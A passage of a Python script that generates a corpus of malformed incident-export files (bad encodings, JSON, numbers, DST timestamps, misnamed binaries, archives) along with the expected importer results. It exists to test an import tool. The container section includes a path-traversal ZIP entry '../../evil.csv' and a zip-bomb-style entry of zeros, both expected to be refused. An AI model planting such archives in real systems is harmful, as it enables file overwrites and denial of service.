        "a // comment line before the JSON", rows=3)
    add("json/pagerduty-incidents-single-quotes.json", U8(str(wrap("pd-json", [pd_inc(1)]))),
        "a Python repr (single quotes, None, False) instead of JSON", rows=1)
    add("json/incidentio-incidents-trailing-commas.json",
        U8(json_text("iio-json").replace("\n  ],\n  \"pagination_meta\"", ",\n  ],\n  \"pagination_meta\"")),
        "a trailing comma after the last record", rows=3)
    add("json/servicenow-table-lone-surrogate.json",
        U8(json_text("sn-json").replace("Email delays #1", "Email delays \\ud83d #1")),
        "an escaped lone high surrogate \\ud83d in a title", rows=3)
    add("json/pagerduty-incidents-extra-wrappers.json",
        U8(jtext({"incidents": pd_incs(), "data": og_alerts()})),
        "two record arrays in one object (incidents and data)", rows=3)
    add("json/pagerduty-incidents-wrapper-last.json",
        U8('{"limit": 25, "offset": 0, "more": false, "meta": {"incidents": "not this"}, "incidents": ' +
           json.dumps(pd_incs()) + "}\n"), "the record array comes last, after a nested key with the same name",
        rows=3)


# ====================================================================================================================
# numbers/

BAD_NUMBERS = [("inf", "inf"), ("minus-inf", "-inf"), ("nan", "NaN"), ("negative", "-120"),
               ("int64-max", "9223372036854775807"), ("1e308", "1e308"), ("20-digits", "99999999999999999999")]


def build_numbers():
    for tag, v in BAD_NUMBERS:
        add(f"numbers/pagerduty-seconds-to-resolve-{tag}.csv",
            U8(csv_text(PD_HDR, [pd_row(1), pd_row(2, resolved_at="", seconds_to_resolve=v), pd_row(3)])),
            f"seconds_to_resolve = {v} on line 3 with no resolved_at (the value is used to derive it)", rows=3)
    for tag, v in BAD_NUMBERS:
        add(f"numbers/opsgenie-count-{tag}.csv", U8(csv_text(OG_HDR, [og_row(1), og_row(2, Count=v), og_row(3)])),
            f"Count = {v} on line 3", rows=3)
    add("numbers/opsgenie-acktime-closetime-bad.csv",
        U8(csv_text(OG_HDR, [og_row(i, AckTime=a, CloseTime=c) for i, (a, c) in
                             enumerate([("inf", "1"), ("-5", "1e308"), ("NaN", "99999999999999999999"),
                                        ("9223372036854775807", "-inf"), ("1.5", "3.2e9"), ("300000", "2400000")], 1)])),
        "AckTime/CloseTime (ms) out of range on lines 2-5; line 6 fractional/large-but-valid?; line 7 good", rows=6)
    add("numbers/pagerduty-seconds-to-first-ack-mixed.csv",
        U8(csv_text(PD_HDR, [pd_row(i, seconds_to_first_ack=v) for i, v in
                             enumerate(["1e308", "-1", "NaN", "3155760000", "120.5", "1,200", "0x10", " 60 "], 1)])),
        "seconds_to_first_ack: 1e308, -1, NaN, 100 years, fractional, thousands separator, hex, padded", rows=8)
    add("numbers/servicenow-sys-mod-count-bad.csv",
        U8(csv_text(SN_HDR, [sn_row(i, sys_mod_count=v) for i, v in
                             enumerate(["-1", "9223372036854775807", "1e308", "NaN", "inf", "99999999999999999999", "3"], 1)])),
        "sys_mod_count (version) out of range on 6 of 7 rows", rows=7)
    add("numbers/servicenow-calendar-duration-bad.csv",
        U8(csv_text(["number", "short_description", "opened_at", "priority", "state", "calendar_duration", "sys_mod_count"],
                    [[f"INC00330{i:02d}", "x", "2026-03-02 09:00:00", "3 - Moderate", "Closed", v, "1"] for i, v in
                     enumerate(["-3600", "inf", "NaN", "1e308", "9223372036854775807", "99999999999999999999",
                                "3155760000", "7500"], 1)])),
        "calendar_duration (seconds, used to derive resolved_at) out of range on 7 of 8 rows", rows=8)
    recs = og_alerts()
    recs[0]["report"]["ackTime"] = -15702
    recs[1]["report"] = {"ackTime": 1e308, "closeTime": 99999999999999999999}
    recs[2]["count"] = 9223372036854775807
    add("numbers/opsgenie-alerts-json-bad-numbers.json", U8(json_text("ogalert-json", recs)),
        "report.ackTime negative, ackTime 1e308, closeTime 20 digits, count 2^63-1", rows=3)
    recs = og_alerts()
    recs[0]["count"] = -1
    recs[1]["count"] = 2147483648
    recs[2]["count"] = 1.5
    add("numbers/opsgenie-alerts-json-count-edges.json", U8(json_text("ogalert-json", recs)),
        "count -1, 2^31 (just past int32), 1.5", rows=3)
    recs = gr_groups()
    recs[0]["alerts_count"] = 1e308
    recs[1]["alerts_count"] = -3
    recs[2]["alerts_count"] = 99999999999999999999
    add("numbers/grafana-alert-groups-bad-counts.json", U8(json_text("grafana-json", recs)),
        "alerts_count 1e308, -3, 99999999999999999999", rows=3)
    add("numbers/grafana-alert-groups-infinity-literal.json",
        U8(json_text("grafana-json").replace('"alerts_count": 12', '"alerts_count": Infinity', 1)),
        "a bare Infinity token as alerts_count (not JSON)", rows=3)
    recs = pd_incs()
    recs[0]["alert_counts"] = {"all": -1}
    recs[1]["alert_counts"] = {"all": 9223372036854775807}
    recs[2]["incident_number"] = 99999999999999999999
    add("numbers/pagerduty-incidents-bad-counts.json", U8(json_text("pd-json", recs)),
        "alert_counts.all -1 and 2^63-1, incident_number 20 digits", rows=3)
    add("numbers/pagerduty-alert-count-csv.csv",
        U8(csv_text(["id", "created_at", "title", "alert_count"],
                    [["PAC1", "2026-03-02T10:00:00Z", "ok", "3"], ["PAC2", "2026-03-02T10:00:00Z", "neg", "-2"],
                     ["PAC3", "2026-03-02T10:00:00Z", "huge", "2147483648"], ["PAC4", "2026-03-02T10:00:00Z", "inf", "inf"],
                     ["PAC5", "2026-03-02T10:00:00Z", "frac", "2.5"]])),
        "alert_count: good, -2, 2^31, inf, 2.5 (format named with --source)", rows=5, source="pagerduty-incidents-csv")
    add("numbers/grafana-alert-groups-count-1e400.json",
        U8(json_text("grafana-json").replace('"alerts_count": 12', '"alerts_count": 1e400', 1)),
        "alerts_count 1e400: valid JSON grammar, beyond a double (parses to infinity)", rows=3)


# ====================================================================================================================
# timestamps/

def build_timestamps():
    cases = [("invalid", ["the 5th of April", "2026-13-45T25:61:00Z", "2026-02-30T10:00:00Z", "yesterday", "00:00"]),
             ("year-0001-9999", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "1989-12-31T23:59:59Z",
                                 "2100-01-01T00:00:01Z", "1970-01-01T00:00:00Z"]),
             ("epoch", ["1772445600", "1772445600000", "1772445600.5", "177244560", "17724456000000000"]),
             ("offsets", ["2026-03-02T10:00:00+05:30", "2026-03-02T10:00:00+0530", "2026-03-02T10:00:00-08:00",
                          "2026-03-02T10:00:00+14:00", "2026-03-02T10:00:00+25:00"]),
             ("no-offset", ["2026-03-02 10:00:00", "2026-03-02T10:00:00", "2026-03-02T10:00:00.123456789",
                            "2026-03-02 10:00", "2026/03/02 10:00:00"])]
    for tag, vals in cases:
        add(f"timestamps/pagerduty-created-{tag}.csv",
            U8(csv_text(PD_HDR, [pd_row(i, created_at=v, resolved_at="", seconds_to_resolve="") for i, v in
                                 enumerate(vals, 1)])),
            f"created_at: {' | '.join(vals)}", rows=len(vals))
    vals = ["2026-03-02t10:00:00z", "2026-03-02T10:00Z", "20260302T100000Z", "2026-03-02T10:00:00.000000000+00:00",
            "2026-03-02T10:00:00-00:00", "Mon, 02 Mar 2026 10:00:00 GMT"]
    add("timestamps/pagerduty-created-iso-variants.csv",
        U8(csv_text(PD_HDR, [pd_row(i, created_at=v, resolved_at="", seconds_to_resolve="") for i, v in
                             enumerate(vals, 1)])),
        f"created_at: {' | '.join(vals)}", rows=len(vals))
    add("timestamps/pagerduty-no-offset-berlin.csv",
        U8(csv_text(PD_HDR, [pd_row(1, created_at="2026-03-02 10:00:00", resolved_at="2026-03-02 11:00:00")])),
        "naive times read in --timezone Europe/Berlin", rows=1, timezone="Europe/Berlin")
    dst = [("2026-03-29T02:30:00", "2026-03-29T04:00:00"),   # in the spring-forward gap
           ("2026-03-29 02:00:00", "2026-03-29 03:00:00"),   # start of the gap -> exactly the end of it
           ("2026-10-25T02:30:00", "2026-10-25T02:45:00"),   # ambiguous (fall-back overlap)
           ("2026-03-29T01:59:59", "2026-03-29T03:00:00")]   # last second before the gap, first after: 1 s apart
    add("timestamps/pagerduty-legacy-dst-gap-berlin.csv",
        U8(csv_text(PD_LEGACY_HDR, [legacy_row(20 + i, created_on=c, resolved_on=r, seconds_to_resolve="")
                                    for i, (c, r) in enumerate(dst)])),
        "wall times in the Europe/Berlin DST gap (02:00-03:00 on 2026-03-29) and overlap (2026-10-25 02:xx)",
        rows=4, timezone="Europe/Berlin")
    add("timestamps/jira-dst-gap-berlin.csv",
        U8(csv_text(JIRA_HDR, [jira_row(1, Created="29/Mar/26 2:30 AM", Resolved="29/Mar/26 3:30 AM", Updated=""),
                               jira_row(2, Created="25/Oct/26 2:30 AM", Resolved="25/Oct/26 2:15 AM", Updated="")])),
        "Jira dates in the Berlin spring gap; and an overlap time whose Resolved is 15 min 'earlier' wall time",
        rows=2, timezone="Europe/Berlin")
    add("timestamps/servicenow-dst-gap-new-york.csv",
        U8(csv_text(SN_HDR, [sn_row(1, opened_at="2026-03-08 02:30:00", resolved_at="2026-03-08 03:10:00"),
                             sn_row(2, opened_at="2026-11-01 01:30:00", resolved_at="2026-11-01 01:10:00")])),
        "ServiceNow display times in the America/New_York gap (02:30 on 2026-03-08) and overlap (01:xx on 2026-11-01)",
        rows=2, timezone="America/New_York")
    add("timestamps/generic-dst-gap-mapping-zone.csv",
        U8(gen_text([dict(gen_rows()[0], Opened="29/03/2026 02:30", Closed="29/03/2026 03:30")])),
        "mapping zone Europe/Berlin; Opened in the DST gap", rows=1, mapping="generic/helpdesk.yaml")
    add("timestamps/pagerduty-unknown-timezone.csv", U8(csv_text(PD_HDR, [pd_row(1, created_at="2026-03-02 10:00:00")])),
        "--timezone Mars/Olympus_Mons (no such IANA zone)", rows=1, timezone="Mars/Olympus_Mons")
    add("timestamps/pagerduty-resolved-before-created.csv",
        U8(csv_text(PD_HDR, [pd_row(1, created_at="2026-03-02T10:00:00Z", resolved_at="2026-03-02T09:00:00Z"),
                             pd_row(2, created_at="2026-03-02T10:00:00Z", resolved_at="2026-03-02T10:00:00Z"),
                             pd_row(3, created_at="2026-03-02T10:00:00Z", resolved_at="2025-03-02T10:00:00Z")])),
        "resolved 1 h before created, resolved == created, resolved a year before", rows=3)
    add("timestamps/opsgenie-closed-before-created.csv",
        U8(csv_text(OG_HDR, [og_row(1, CloseTime="-60000", AckTime="-1"), og_row(2, LastOccurredAt="2020-01-01T00:00:00Z")])),
        "negative CloseTime/AckTime (closed before created), last occurrence before creation", rows=2)
    recs = pd_incs()
    recs[0]["created_at"] = "0001-01-01T00:00:00Z"
    recs[1]["created_at"] = "9999-12-31T23:59:59.9999999Z"
    recs[2]["created_at"] = "2026-03-02T10:00:00"
    add("timestamps/pagerduty-incidents-year-edges.json", U8(json_text("pd-json", recs)),
        "created_at year 0001, 9999, and no offset", rows=3)
    recs = iio_incs()
    recs[0]["incident_timestamp_values"][1]["value"]["value"] = "2026-03-01T00:00:00Z"   # resolved before created
    recs[1]["created_at"] = "2026-03-03T00:20:00+25:00"
    recs[2]["created_at"] = ""
    add("timestamps/incidentio-incidents-bad-times.json", U8(json_text("iio-json", recs)),
        "resolved timestamp before created_at, +25:00 offset, empty created_at", rows=3)
    recs = jira_issues()
    recs[0]["fields"]["created"] = "2026-03-29T02:30:00.000"
    recs[1]["fields"]["created"] = "2026-03-29T02:30:00.000+0100"
    recs[2]["fields"]["created"] = "1774747800000"
    add("timestamps/jira-search-naive-offset-epoch-string.json", U8(json_text("jira-json", recs)),
        "created without offset in the DST gap (Europe/Berlin), with +0100 (a non-existent Berlin local time but a "
        "valid instant), and epoch millis as a string", rows=3, timezone="Europe/Berlin")
    recs = sn_recs()
    recs[0]["opened_at"] = "2026-03-29 02:30:00"
    recs[1]["opened_at"] = "29/03/2026 02:30:00"
    recs[2]["opened_at"] = "2026-03-29T02:30:00Z"
    add("timestamps/servicenow-table-dst-gap.json", U8(json_text("sn-json", recs)),
        "plain-string opened_at in the Berlin gap, d/m/Y display text, and an explicit Z", rows=3,
        timezone="Europe/Berlin")
    recs = gr_groups()
    recs[0]["created_at"] = "2026-03-02T00:37:01.430444123456Z"
    recs[1]["created_at"] = "2026-03-02T00:37:01,5Z"
    recs[2]["created_at"] = "2026-W10-1T00:00:00Z"
    add("timestamps/grafana-alert-groups-exotic-iso.json", U8(json_text("grafana-json", recs)),
        "12 fractional digits, a comma decimal separator, an ISO week date", rows=3)
    recs = pd_logs()
    recs[0]["created_at"] = "2026-03-02T01:00:00Z"
    recs[1]["created_at"] = "not a time"
    recs[2]["created_at"] = "1900-01-01T00:00:00Z"
    add("timestamps/pagerduty-log-entries-bad-times.json", U8(json_text("pdlog-json", recs)),
        "an invalid and a pre-1990 created_at", rows=3)
    recs = og_incs()
    recs[0]["impactEndDate"] = "2026-03-01T00:00:00Z"
    recs[1]["createdAt"] = "2026-03-04T00:50:00.000+05:45"
    recs[2]["createdAt"] = "2026-03-05T00:50:00 UTC"
    add("timestamps/opsgenie-incidents-odd-times.json", U8(json_text("oginc-json", recs)),
        "impact end before creation, +05:45 offset, '... UTC' suffix", rows=3)
    add("timestamps/incidentio-leap-second.csv",
        U8(csv_text(IIO_HDR, [iio_row(1, **{"Created At": "2026-06-30T23:59:60Z"}),
                              iio_row(2, **{"Created At": "2028-02-29 12:00:00"}),
                              iio_row(3, **{"Created At": "2027-02-29 12:00:00"})])),
        "a leap second (23:59:60), a real leap day, and 29 Feb in a non-leap year", rows=3)


# ====================================================================================================================
# binary/

def build_binary():
    rnd = random.Random(20260331)
    png = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    png += struct.pack(">I", zlib.crc32(png[12:29]) & 0xffffffff)
    idat = zlib.compress(b"\x00\xff\x00\x00\xff")
    png += struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat) & 0xffffffff)
    png += struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND") & 0xffffffff)
    jpeg = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes(range(1, 65)) + b"\xff\xd9"
    pdf = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n"
           b"<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("notes.txt", (2026, 3, 31, 0, 0, 0)), "just notes\n")
    zipdata = zbuf.getvalue()
    gz = gzip.compress(b"not an export, just text\n", mtime=0)
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + bytes(rnd.randrange(256) for _ in range(200))
    rand = bytes(rnd.randrange(256) for _ in range(4096))
    rand_no_nul = bytes(rnd.randrange(1, 256) for _ in range(4096))
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504
    for name, data, what in [("png", png, "a PNG image"), ("jpeg", jpeg, "a JPEG image"), ("pdf", pdf, "a PDF document"),
                             ("zip", zipdata, "a ZIP archive holding notes.txt"), ("gzip", gz, "a gzip of plain text"),
                             ("elf", elf, "an ELF executable header"), ("random", rand, "4 KB of random bytes"),
                             ("xls-ole2", ole, "a legacy .xls (OLE2 compound file) header")]:
        add(f"binary/{name}-named.csv", data, f"{what} saved with a .csv name")
        add(f"binary/{name}-named.json", data, f"{what} saved with a .json name")
    add("binary/random-no-nul.csv", rand_no_nul, "4 KB of random bytes with no NUL byte (not UTF-8, so 'Windows-1252')")
    add("binary/bzip2-named.csv", b"BZh91AY&SY" + bytes(rnd.randrange(256) for _ in range(64)), "a bzip2 header")
    add("binary/xz-named.json", b"\xfd7zXZ\x00" + bytes(rnd.randrange(256) for _ in range(64)), "an xz header")
    add("binary/7z-named.csv", b"7z\xbc\xaf\x27\x1c" + bytes(rnd.randrange(256) for _ in range(64)), "a 7-Zip header")
    add("binary/zip-magic-corrupt.csv", b"PK\x03\x04" + bytes(rnd.randrange(256) for _ in range(300)),
        "ZIP local-file magic followed by garbage (a corrupt archive)")
    add("binary/png-then-csv.csv", png + b"\n" + U8(csv_fmt_text("pagerduty")),
        "a PNG with a valid PagerDuty CSV appended after it")
    add("binary/csv-then-png.csv", U8(csv_fmt_text("pagerduty")) + png,
        "a valid PagerDuty CSV with a PNG appended after the last row", rows=3)
    add("binary/sqlite-named.json", b"SQLite format 3\x00" + b"\x10\x00\x01\x01" + b"\x00" * 80,
        "an SQLite database header saved as .json")


# ====================================================================================================================
# containers/: predicted outcomes (the snapshot refuses all of these)

def zbytes(entries, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, (2026, 3, 31, 0, 0, 0))
            zi.compress_type = compression if not name.endswith("/") else zipfile.ZIP_STORED
            if name.endswith("/"):
                zi.external_attr = 0o40755 << 16 | 0x10
            z.writestr(zi, data, compresslevel=9 if compression == zipfile.ZIP_DEFLATED and not name.endswith("/") else None)
    return buf.getvalue()


def xlsx_bytes():
    rows = [SN_HDR[:7]] + [[r[h] for h in SN_HDR[:7]] for r in sn_rows()]

    def esc(s):
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    def col(i):
        return chr(ord("A") + i)

    sheet_rows = []
    for ri, r in enumerate(rows, 1):
        cells = "".join(f'<c r="{col(ci)}{ri}" t="inlineStr"><is><t>{esc(v)}</t></is></c>' for ci, v in enumerate(r) if v != "")
        sheet_rows.append(f'<row r="{ri}">{cells}</row>')
    parts = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/xl/workbook.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
         '<Override PartName="/xl/worksheets/sheet1.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
         '</Types>'),
        ("_rels/.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         'Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
         '<sheets><sheet name="incident" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
         'Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
         + "".join(sheet_rows) + '</sheetData></worksheet>'),
    ]
    return zbytes([(n, U8(d)) for n, d in parts])


def build_containers():
    ok = lambda name, fmt, n, **kw: dict(name=name, expect="imported", format=fmt, read=n, inserted=n, rejected=0, **kw)
    add("containers/exports.zip",
        zbytes([("pagerduty/incidents.csv", U8(csv_fmt_text("pagerduty"))),
                ("opsgenie/alerts-api.json", U8(json_text("ogalert-json")))]),
        "predicted: a ZIP holding a PagerDuty CSV and an Opsgenie alerts JSON in subfolders; each entry is imported "
        "as its own file",
        predict=dict(expect="container", entries=[ok("pagerduty/incidents.csv", "pagerduty-incidents-csv", 3),
                                                  ok("opsgenie/alerts-api.json", "opsgenie-alerts-json", 3)]))
    gbuf = io.BytesIO()
    with gzip.GzipFile(filename="servicenow-incidents.csv", mode="wb", fileobj=gbuf, mtime=0) as g:
        g.write(U8(csv_fmt_text("servicenow")))
    add("containers/servicenow-incidents.csv.gz", gbuf.getvalue(),
        "predicted: a gzip of a ServiceNow CSV (FNAME servicenow-incidents.csv); read as that CSV",
        predict=dict(expect="container",
                     entries=[ok("servicenow-incidents.csv", "servicenow-incidents-csv", 3)]))
    add("containers/servicenow-incidents.xlsx", xlsx_bytes(),
        "predicted: a minimal .xlsx (inline strings) whose only sheet 'incident' is a ServiceNow incident list; read "
        "like the CSV",
        predict=dict(expect="container", entries=[ok("incident", "servicenow-incidents-csv", 3)]))
    add("containers/path-traversal.zip",
        zbytes([("../../evil.csv", U8(csv_fmt_text("pagerduty"))), ("incidents.csv", U8(csv_fmt_text("incidentio")))]),
        "predicted: an entry named ../../evil.csv must never be written outside a temp folder; it is refused by "
        "name, the safe entry is imported",
        predict=dict(expect="container", entries=[dict(name="../../evil.csv", expect="refused", reason="../../evil.csv"),
                                                  ok("incidents.csv", "incidentio-incidents-csv", 3)]))
    zeros = b"\x00" * (50 * 1024 * 1024)
    add("containers/zip-bomb-50mb-zeros.zip",
        zbytes([("incidents.csv", U8(csv_fmt_text("pagerduty"))), ("zeros.csv", zeros)]),
        "predicted: a 50 MB entry of NUL bytes deflated to ~50 KB beside a good CSV; the zeros entry is refused (not "
        "text, or over the expansion limit) without inflating it into memory; the good entry imports",
        predict=dict(expect="container", entries=[ok("incidents.csv", "pagerduty-incidents-csv", 3),
                                                  dict(name="zeros.csv", expect="refused")]))
    add("containers/empty.zip", zbytes([]),
        "predicted: a ZIP with no entries; refused: nothing to import",
        predict=dict(expect="refused", reason="no CSV or JSON"))
    add("containers/folder-and-readme.zip",
        zbytes([("exports/", b""), ("README.txt", b"Exports will be added here.\n")]),
        "predicted: a ZIP holding only a folder entry and README.txt; refused: no CSV or JSON inside",
        predict=dict(expect="refused", reason="no CSV or JSON"))
    add("containers/nested.zip",
        zbytes([("inner.zip", zbytes([("grafana.json", U8(json_text("grafana-json")))]))]),
        "predicted: a ZIP whose only entry is another ZIP; nested archives are not opened (refused entry)",
        predict=dict(expect="container", entries=[dict(name="inner.zip", expect="refused")]))
    add("containers/stored-not-deflated.zip",
        zbytes([("jira/issues.csv", U8(csv_fmt_text("jira")))], compression=zipfile.ZIP_STORED),
        "predicted: an uncompressed (stored) ZIP entry; read like a deflated one",
        predict=dict(expect="container", entries=[ok("jira/issues.csv", "jira-issues-csv", 3)]))


def build_all():
    build_good()
    build_encoding()
    build_csv()
    build_structure()
    build_json()
    build_numbers()
    build_timestamps()
    build_binary()
    build_containers()


# ====================================================================================================================
# Predictions for cases where the snapshot CLI (frozen for this corpus) was wrong: what a correct importer reports.
# Filled from the run in run_corpus.sh; see the report of the session that built the corpus.
def _imp(fmt, read, inserted, rejected, **kw):
    return dict(expect="imported", format=fmt, read=read, inserted=inserted, rejected=rejected, **kw)


def _ref(reason, line=None, **kw):
    d = dict(expect="refused", reason=reason)
    if line is not None:
        d["line"] = line
    d.update(kw)
    return d


PREDICT = {
    # encodings
    "encoding/opsgenie-invalid-utf8-surrogate.csv": _ref("mixes encodings", 4, snapshot=(
        "imported as Windows-1252: titles stored as 'KÃ¼hlung ausgefallen â€“ Rechenzentrum'")),
    "encoding/opsgenie-invalid-utf8-ff-byte.csv": _ref("mixes encodings", 4, snapshot=(
        "imported as Windows-1252: titles stored as 'KÃ¼hlung ausgefallen â€“ Rechenzentrum'")),
    "encoding/pagerduty-utf16le-bom-embedded-nul-char.csv": _ref("NUL", 4, snapshot=(
        "imported; title stored with an embedded NUL ('Queue\\x00backlog growing')")),
    "encoding/opsgenie-utf16le-lone-surrogate.csv": _ref("UTF-16", 4, snapshot=(
        "imported; the unpaired surrogate silently became U+FFFD in the stored title")),
    "encoding/pagerduty-utf16le-bom-odd-length.csv": _ref("UTF-16", 4, snapshot=(
        "imported 2, rejected line 4 as seconds_to_resolve '\\ufffd' is 'not a number of seconds'")),
    "encoding/pagerduty-utf32le-bom.csv": _ref("UTF-32", 1, snapshot=(
        "refused at line 5: 'cannot be read ... Expected Number of Columns: 22 Found: 1' (read as UTF-16 LE)")),
    "encoding/jira-nul-every-other-byte-odd.csv": _ref("UTF-16", snapshot=(
        "refused at line 5: 'cannot be read ... Expected Number of Columns: 33 Found: 1'")),
    # CSV shape
    "csv/jira-only-commas-rows.csv": _imp("jira-issues-csv", 3, 3, 0, snapshot=(
        "read 5, rejected 2 rows that are nothing but commas ('required value is empty'); blank lines are skipped")),
    "csv/opsgenie-excel-sep-line.csv": _imp("opsgenie-alerts-csv", 3, 3, 0, snapshot=(
        "format detected from line 2, but line 2 (the header) then read as a data row: read 4, rejected 1")),
    "csv/one-line-150k-no-newline.csv": _ref("no known format matches this header", 1, message_max_chars=4000,
                                             snapshot="the refusal message is 153,078 characters: it quotes the "
                                                      "whole 152 KB line"),
    "csv/servicenow-whitespace-padded.csv": _imp("servicenow-incidents-csv", 2, 2, 0, snapshot=(
        "refused 'no known format matches this header' although number and opened_at are present")),
    # detection
    "structure/servicenow-required-columns-only.csv": _imp("servicenow-incidents-csv", 2, 2, 0, snapshot=(
        "refused 'no known format matches this header' although both required columns are present (17 %)")),
    "structure/minimal-id-created-ambiguous.csv": _ref("more than one format", 1, snapshot=(
        "'no known format matches this header' although three formats' required columns are all present")),
    "structure/ambiguous-incidents-wrapper.json": _ref("more than one format", 1, snapshot=(
        "'no known JSON format matches them' although PagerDuty and incident.io both match id + created_at")),
    "json/opsgenie-alerts-sparse-first-record.json": _ref("more than one format", 1, snapshot=(
        "'no known JSON format matches them (first record's keys: createdAt, id, message)'")),
    # JSON documents
    "json/scalar-number.json": _ref("has no array of records", 1, snapshot="'no known format matches this header. "
                                                                            "It has 1 columns: 42' (read as a CSV)"),
    "json/scalar-string.json": _ref("has no array of records", 1, snapshot="read as a CSV header with 1 column"),
    "json/scalar-null.json": _ref("has no array of records", 1, snapshot="read as a CSV header with 1 column"),
    "json/scalar-true.json": _ref("has no array of records", 1, snapshot="read as a CSV header with 1 column"),
    "json/empty-object.json": _ref("has no array of records", 1, snapshot=(
        "'its record array is empty, and the JSON fits more than one format: pagerduty-incidents-json (100 %) ...'")),
    "json/wrapper-records-are-strings.json": _ref("not objects", 1, snapshot=(
        "'its record array is empty' although it holds two strings")),
    "json/opsgenie-alerts-ndjson.json": _ref("is not valid JSON", 2, snapshot=(
        "'is JSON with records in a 'tags' array ... (first record's keys: )': read the first line only")),
    "json/pagerduty-incidents-two-pages-concatenated.json": _ref("is not valid JSON", 120, snapshot=(
        "imported the first page (read 2) and silently ignored the second document")),
    "json/jira-search-trailing-garbage.json": _ref("is not valid JSON", 226, snapshot=(
        "imported; the HTML after the JSON was silently ignored")),
    "json/duplicate-wrapper-key.json": _ref("'data'", 1, snapshot=(
        "imported the first 'data' array (read 1) and silently dropped the second")),
    "json/servicenow-table-lone-surrogate.json": _imp("servicenow-table-json", 3, 2, 1, snapshot=(
        "exit 70: internal error: InvalidOperationException: Cannot read incomplete UTF-16 JSON text as string "
        "with missing low surrogate.")),
    "json/pagerduty-incidents-lone-low-surrogate-id.json": _imp("pagerduty-incidents-json", 3, 2, 1, snapshot=(
        "exit 70: internal error: InvalidOperationException: Cannot read invalid UTF-16 JSON text as string. "
        "Invalid surrogate value: '0xDC00'.")),
    "json/pagerduty-incidents-id-number-and-object.json": _imp("pagerduty-incidents-json", 3, 2, 1, snapshot=(
        "inserted 3: the object id stored as the external_id '{\\n        \"value\": \"Q0CRP2\"\\n      }'")),
    "json/grafana-alert-groups-wrong-types.json": _imp("grafana-oncall-alert-groups-json", 3, 0, 3, snapshot=(
        "inserted 1: the array id stored as the external_id '[\\n  \"I68\",\\n  \"X\"\\n ]'")),
    # numbers
    "numbers/opsgenie-alerts-json-count-edges.json": _imp("opsgenie-alerts-json", 3, 0, 3, snapshot=(
        "count 1.5 accepted and stored as dedup_count 2 (rounded) although the rule is 'a whole number'")),
    "numbers/pagerduty-alert-count-csv.csv": _imp("pagerduty-incidents-csv", 5, 1, 4, snapshot=(
        "alert_count 2.5 accepted and stored as 3 (rounded)")),
    "numbers/pagerduty-seconds-to-first-ack-mixed.csv": _imp("pagerduty-incidents-csv", 8, 2, 6, snapshot=(
        "seconds_to_first_ack 3155760000 (100 years) accepted: acknowledged_at stored as 2126-03-07, outside "
        "the 1990-2100 range every read timestamp must be in")),
    "numbers/servicenow-calendar-duration-bad.csv": _imp("servicenow-incidents-csv", 8, 1, 7, snapshot=(
        "calendar_duration 3155760000 accepted: resolved_at stored as 2126-03-03")),
    # timestamps
    "timestamps/pagerduty-created-offsets.csv": _imp("pagerduty-incidents-csv", 5, 4, 1, snapshot=(
        "offset +25:00 accepted: created_at stored as 2026-03-01T09:00:00Z")),
    "timestamps/incidentio-incidents-bad-times.json": _imp("incidentio-incidents-json", 3, 1, 2, snapshot=(
        "offset +25:00 accepted: created_at stored as 2026-03-01T23:20:00Z")),
    "timestamps/pagerduty-created-iso-variants.csv": _imp("pagerduty-incidents-csv", 6, 4, 2, snapshot=(
        "rejected RFC 3339 lowercase '2026-03-02t10:00:00z' and ISO 8601 '2026-03-02T10:00Z' (no seconds) "
        "although '2026-03-02 10:00' is read")),
    "timestamps/pagerduty-unknown-timezone.csv": _ref("Unknown time zone", snapshot=(
        "stderr only (nothing on stdout under --format json); message ends with .NET's \"(Parameter 'TimeZone')\"")),
}

# Refusals whose outcome and line are right but whose message is a raw DuckDB / System.Text.Json text: the entry keeps
